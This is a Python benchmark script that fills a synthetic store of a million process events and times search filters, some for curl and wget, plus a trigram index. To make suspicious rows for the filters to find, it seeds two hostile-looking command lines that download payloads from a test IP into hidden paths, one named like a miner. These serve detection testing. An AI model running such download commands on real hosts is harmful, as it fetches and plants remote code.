"""What a filter over a million processes costs: first rows and the whole count, as multiples of a plain look at the texts.

    python -P tests/benchmarks/filter_texts.py --processes 1000000 [--folder FOLDER]

A third of the command lines are distinct, as on simulated hosts; a folder that was filled before is taken as it is. Each line is
asked three times in a workspace that is open, and the fastest is told. "texts" is one LIKE over all distinct texts, which any
filter without an index has to do. Beside it stands what a trigram index (FTS5) over the same texts would take: seconds, bytes,
and its share of the ingest. Target: first rows of the two lines with curl under 300 ms.
"""

from __future__ import annotations

import argparse
import sqlite3
import sys
import tempfile
import time
from collections.abc import Callable, Iterator
from functools import partial
from pathlib import Path

sys.path[:0] = [str(Path(__file__).resolve().parents[2]), str(Path(__file__).resolve().parent)]

import numpy as np  # noqa: E402
from filling import CASE, fill  # noqa: E402

from engine.domain.records import ProcessEvent  # noqa: E402
from store.queue.filter import QueueFilter  # noqa: E402
from store.where.matching import count, times_of  # noqa: E402
from store.where.meaning import read  # noqa: E402
from store.workspace import Workspace, open_workspace  # noqa: E402
from tests.store.samples import score  # noqa: E402

HOSTS = 50
ALIKE = 3
"""Processes for each distinct command line."""
START_US = 1_772_409_600_000_000
ODD = {7_919: "curl -s http://192.0.2.77/x.sh -o /dev/shm/.x", 65_537: "wget -q http://192.0.2.77/m -O /tmp/.cache/kswapd0"}
"""Every so manieth process has this command line."""


def events(count: int) -> Iterator[ProcessEvent]:
    """Families below a few roots of each host."""
    random = np.random.default_rng(1)
    last: list[list[int]] = [[] for _ in range(HOSTS)]
    for number in range(count):
        host = int(random.integers(HOSTS))
        line = last[host]
        parent = line[int(len(line) * random.random() ** 0.5)] if len(line) > 5 else None
        if len(line) < 3_000:
            line.append(number)
        text = next((text for every, text in ODD.items() if number % every == every - 1), "")
        alike = int(random.integers(max(count // ALIKE, 1)))
        yield ProcessEvent(
            kind="sysmon1", os="windows", host=f"HOST{host:02}", image=f"C:\\Apps\\tool{int(random.zipf(1.5)) % 300}.exe",
            time_us=START_US + number * 250_000, pid=4 * (number % 16_000), ppid=None, guid=f"guid-{number}",
            parent_guid=None if parent is None else f"guid-{parent}", user=f"CORP\\user{number % 40}", record_id=str(number),
            command_line=text or f'"C:\\Apps\\tool.exe" --config "C:\\ProgramData\\Apps\\set-{alike}.xml" --mode {alike % 7}',
            position=number,
        )  # fmt: skip


LINES = (
    "curl", "cmd:/curl|wget/", "!user:root cmd:curl", "image:tool77.exe", "parent:tool77.exe", "host:HOST01 cmd:wget", "pid:44",
    "time:12:17±5m", "after:03-03", "verdict:none", "is:odd", "n>50", "cmd:/[0-9a-f]{32}/", "!cmd:settings",
)  # fmt: skip


def fastest(ask: Callable[[], object]) -> float:
    """Milliseconds."""
    found = []
    for _ in range(3):
        began = time.perf_counter()
        ask()
        found.append((time.perf_counter() - began) * 1000)
    return min(found)


def main() -> None:
    """Fill, ask, print."""
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--processes", type=int, default=1_000_000)
    parser.add_argument("--folder", type=Path)
    wanted = parser.parse_args()
    with tempfile.TemporaryDirectory() as scratch:
        folder = wanted.folder or Path(scratch) / "w"
        workspace = open_workspace(folder)
        spent = 0.0
        if not workspace.cases.names():
            began = time.process_time()
            fill(workspace, events(wanted.processes))
            spent = time.process_time() - began
            score(workspace, CASE, flagged=300, grouped=True)
        plain = ask_all(workspace)
        index(folder, Path(scratch), spent, plain)
        workspace.close()


def ask_all(workspace: Workspace) -> float:
    """Print each line's milliseconds and multiples of the plain look; returns that one's."""
    times = times_of(workspace, CASE)
    with workspace.read() as connection:
        query = "SELECT id FROM string WHERE text LIKE '%curl%'"
        plain = fastest(lambda: connection.exec_driver_sql(query).all())
        texts = connection.exec_driver_sql("SELECT count(*) FROM string").scalar_one()
    print(f"{texts:,} texts: one look {plain:.0f} ms")
    print(f"{'line':24} {'processes':>10} {'all of them':>16} {'first findings':>16} {'first chains':>16}")
    for line in LINES:
        where = read(line, times)
        wanted = QueueFilter(where=where)
        asked = (
            partial(count, workspace, CASE, where),
            partial(workspace.findings.page, CASE, wanted, limit=64),
            partial(workspace.queue.page, CASE, wanted, limit=64),
        )
        took = [fastest(ask) for ask in asked]
        print(f"{line:24} {count(workspace, CASE, where):10,} " + " ".join(f"{ms:7.0f} ms {ms / plain:4.0f}x" for ms in took))
    return plain


def index(folder: Path, scratch: Path, spent: float, plain: float) -> None:
    """What the index that is not kept would take."""
    with sqlite3.connect(scratch / "index.sqlite") as connection:
        connection.text_factory = bytes
        connection.execute("ATTACH ? AS w", (str(folder / "oddkin.sqlite"),))
        connection.execute("CREATE VIRTUAL TABLE f USING fts5(text, content='', tokenize='trigram', detail=none, columnsize=0)")
        began = time.process_time()
        connection.execute("INSERT INTO f (rowid, text) SELECT id, text FROM w.string")
        connection.commit()
        took = time.process_time() - began
        (size,) = connection.execute("SELECT sum(length(block)) FROM f_data").fetchone()
        (texts,) = connection.execute("SELECT sum(length(CAST(text AS BLOB))) FROM w.string").fetchone()
        asked = fastest(lambda: connection.execute('SELECT rowid FROM f WHERE f MATCH \'"cur" AND "url"\'').fetchall())
    share = f", {took / spent:.0%} of the ingest" if spent else ""
    print(f"trigrams: {took:.1f} s{share}, {size / texts:.1f}x the texts' bytes; {asked:.1f} ms instead of {plain:.0f}")


if __name__ == "__main__":
    main()
